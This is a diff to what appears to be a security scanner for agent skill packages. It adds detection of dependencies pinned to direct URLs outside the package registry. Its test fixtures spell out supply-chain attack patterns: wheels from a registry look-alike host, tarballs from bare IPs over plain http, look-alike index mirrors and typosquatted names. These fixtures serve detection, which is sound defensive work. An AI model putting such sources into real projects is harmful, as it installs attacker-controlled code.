@@ -119,9 +119,53 @@ def _requirement_look_alikes(doc: Document) -> Iterator[Hit]:
                   severity=sev, properties={"package": name, "imitates": target, "ecosystem": "pypi"})
 
 
+# PEP 508 direct references (`name @ https://host/x.whl`) in a requirements file or pyproject.toml's
+# dependency lists, and the table form (`name = { url = "https://..." }`) of Poetry and uv sources.
+_DIRECT_URL = rx(r"\b[a-z0-9][a-z0-9._-]*[ \t]*(?:\[[^\]\n]{0,80}\][ \t]*)?@[ \t]*((?:git\+)?https?://[^\s\"',;\]]{1,300})")
+_TABLE_URL = rx(r"\burl[ \t]*=[ \t]*[\"']((?:git\+)?https?://[^\"'\s]{1,300})")
+_CODE_HOSTS = ("github.com", "gitlab.com", "bitbucket.org", "codeload.github.com", "objects.githubusercontent.com")
+
+
+def _pyproject(path: str) -> bool:
+    return path.replace("\\", "/").lower().rsplit("/", 1)[-1] == "pyproject.toml"
+
+
+def _direct_url_requirements(doc: Document, toml: bool) -> Iterator[Hit]:
+    """A dependency pinned to an archive URL skips the registry: pip or uv installs whatever that host
+    serves. A look-alike of the registry's own file host, plain http, a bare IP or a paste host is a
+    planted source (high); another host outside the registries and code hosts is a question (medium)."""
+    count = 0
+    for regex in ((_DIRECT_URL, _TABLE_URL) if toml else (_DIRECT_URL,)):
+        for m in doc.finditer(regex):
+            url = (m.group(1) or "").removeprefix("git+")
+            if _official_index(url):
+                continue
+            _, grade, host = grade_url(url)
+            if grade in ("local", "none", "vendor") or host_in(host, ("example.com", "example.org", "example.net")):
+                continue
+            brand = look_alike_brand(host)
+            if grade in ("http", "ip", "paste", "lookalike") or brand:
+                sev = Severity.HIGH
+            elif host_in(host, _CODE_HOSTS):
+                continue  # a release asset or a pinned commit of a named repository: accountable, and reviewed elsewhere
+            else:
+                sev = Severity.MEDIUM
+            why = f"look-alike of {brand}" if brand else grade_words(grade)
+            yield Hit(m.start, m.end, message=f"A dependency is installed straight from {url[:80]!r} ({why}), not from the package registry",
+                      severity=sev, properties={"host": host, "grade": grade, **({"lookalike-of": brand} if brand else {})})
+            count += 1
+            if count >= 10:
+                return
+
+
 def _package_installs(doc: Document) -> Iterator[Hit]:
+    if doc.language == "toml":
+        if _pyproject(doc.path):
+            yield from _direct_url_requirements(doc, toml=True)
+        return
     if _requirements_file(doc.path):
         yield from _requirement_look_alikes(doc)
+        yield from _direct_url_requirements(doc, toml=False)
     if doc.search(_PACKAGE_WORDS) is None:
         return
     for regex, eco in ((_PIP, "pypi"), (_NPM, "npm")):
@@ -188,8 +232,12 @@ RULES = [
                   "unpinned package nobody has heard of with `npx -y`, or pulls from a private or plain-http index "
                   "(dependency confusion) runs whatever that name resolves to today.",
         remediation="Install the intended package by its exact name with a pinned version from the default registry.",
-        check=_package_installs, applies_to=READS,
-        must_match=["```bash\npip install --index-url http://10.0.0.5/simple internal-auth\n```\n",
+        check=_package_installs, applies_to=READS + ("toml",),
+        must_match=[
+                    # a dependency pinned to a wheel on a look-alike of the registry's file host
+                    Fixture('[project]\nname = "x"\ndependencies = [\n  "rich>=13",\n  "fastjsonx @ https://files.pythonhosted-mirror.net/p/fastjsonx-1.0-py3-none-any.whl",\n]\n',
+                            path=".claude/skills/x/pyproject.toml"),
+                    Fixture("flask==3.0.3\nhelperlib @ http://203.0.113.7/helperlib-2.1.tar.gz\n", path="skills/x/requirements.txt"),"```bash\npip install --index-url http://10.0.0.5/simple internal-auth\n```\n",
                     "```bash\npip install --extra-index-url https://pypi-mirror.net/simple/?pypi.org ledger-auth\n```\n",
                     # a near-miss of a vendor's GitHub account is still a look-alike
                     "```bash\npip install auto-gptq --extra-index-url https://huggingfface.github.io/autogptq-index/whl/cu118/\n```\n",
@@ -203,6 +251,10 @@ RULES = [
             Fixture("-r base.txt\nflask==3.0.3\nnumpy>=1.26\nrequests[socks]==2.32.3 ; python_version >= '3.9'\n", path="requirements-dev.txt"),
             "```bash\npip install --index-url https://download.pytorch.org/whl/cu121 torch\n```\n",
             "```bash\npip install --index-url https://example.com/simple mypkg\n```\n",
+            # release assets on a code host and the registry's own file host
+            Fixture('[project]\ndependencies = [\n  "en_core_web_sm @ https://github.com/explosion/spacy-models/releases/download/en_core_web_sm-3.7.1/en_core_web_sm-3.7.1-py3-none-any.whl",\n'
+                    '  "tool @ git+https://github.com/org/tool@4f2c9e1",\n]\n[tool.uv.sources]\ntorch = { url = "https://download.pytorch.org/whl/cpu/torch-2.3.0-cp311-cp311-linux_x86_64.whl" }\n',
+                    path="skills/x/pyproject.toml"),
         ],
         lowered=["```bash\npip install reqeusts\n```\n", "`npx -y totally-unknown-helper-xyz`\n",
                  Fixture("flask==3.0.3\npilow==10.3.0\n", path="requirements.txt"),
